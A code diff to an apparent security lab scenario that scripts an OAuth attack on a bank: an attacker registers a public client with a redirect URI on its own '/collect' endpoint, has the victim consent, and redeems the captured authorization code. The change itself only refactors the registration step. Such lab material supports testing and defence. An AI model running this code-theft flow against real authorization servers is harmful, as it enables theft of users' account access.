@@ -1,7 +1,7 @@
 """A statement is opened by an address, and the address stays behind."""
 
 from labs.chromium import BrowserStage
-from labs.stage import Stage, Stuck
+from labs.stage import PUBLIC, Stage, Stuck
 from labs.steps import step
 
 STATEMENT = "/accounts/alice-current/transactions"  # at the bank
@@ -11,11 +11,7 @@ STATEMENT = "/accounts/alice-current/transactions"  # at the bank
 def tries_it_with_his_own(stage: Stage) -> None:
     """Connect an app of the attacker's own to Mallory's account, and show the bank that token in the address."""
     redirect_uri = f"{stage.here.attacker}/collect"
-    metadata = {"client_name": "Statements", "redirect_uris": [redirect_uri], "token_endpoint_auth_method": "none"}
-    answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata | {"scope": "balance:read"})
-    if answer.status_code != 201:
-        raise Stuck("Bank ID registers no app")
-    client_id = answer.json()["client_id"]
+    client_id = stage.attacker.register("Statements", redirect_uri, **PUBLIC)["client_id"]
     stage.mallory.go(stage.link(client_id, redirect_uri)).agree()
     form = {"redirect_uri": redirect_uri, "code_verifier": stage.kept["verifier"]}
     token = stage.attacker.redeem(stage.collection.newest("code"), client_id=client_id, **form)
